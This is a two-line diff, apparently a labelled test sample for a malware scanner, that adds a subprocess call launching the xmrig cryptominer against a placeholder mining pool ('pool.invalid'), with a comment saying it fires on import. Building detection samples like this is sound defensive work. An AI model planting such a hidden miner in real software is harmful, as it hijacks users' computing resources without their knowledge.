@@ -1,0 +1,2 @@
+import subprocess
+subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.invalid:3333"])  # fires: import
